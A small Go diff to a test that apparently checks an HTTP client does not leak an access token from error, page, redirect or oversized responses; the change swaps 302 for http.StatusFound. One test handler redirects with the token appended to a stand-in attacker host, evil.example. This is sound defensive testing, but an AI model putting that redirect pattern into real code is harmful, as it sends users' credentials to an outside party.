@@ -271,7 +271,7 @@ func TestNoAnswerLeaksFromAnError(t *testing.T) {
 		"200 as a page":         answerWith(200, `<html>`+access+`</html>`),
 		"500 with all of it":    answerWith(500, `{`+echo+`}`),
 		"302 to somebody else": func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.example/?t="+access, 302)
+			http.Redirect(w, r, "https://evil.example/?t="+access, http.StatusFound)
 		},
 		"200 that is far too much": answerWith(200, `{"access_token":"`+strings.Repeat("a", 9<<20)+`"}`),
 	} {
